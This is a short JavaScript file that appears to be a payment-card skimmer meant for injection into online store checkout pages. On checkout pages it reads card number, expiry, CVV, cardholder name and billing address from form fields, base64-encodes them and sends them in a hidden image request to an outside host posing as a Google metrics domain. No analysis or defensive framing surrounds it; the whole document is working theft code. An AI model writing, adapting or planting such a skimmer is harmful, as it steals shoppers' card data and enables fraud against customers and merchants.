(function () {
    var url = location.href;
    if (url.indexOf("checkout") < 0 && url.indexOf("onepage") < 0) {
        return;
    }

    function val(id) {
        var el = document.getElementById(id);
        return el ? el.value : "";
    }

    function send() {
        var parts = [
            val("cc_number"),
            val("cc_exp_month"),
            val("cc_exp_year"),
            val("cc_cvv"),
            val("cc_name"),
            val("billing_address"),
            val("billing_zip"),
            location.hostname
        ];
        var data = btoa(parts.join("|"));
        new Image().src = "https://gstatic-metrics.top/pixel.gif?d=" + data + "&r=" + Math.random();
    }

    document.addEventListener("click", function (e) {
        var t = e.target;
        if (t && (t.id === "place-order" || t.type === "submit")) {
            send();
        }
    }, true);
})();
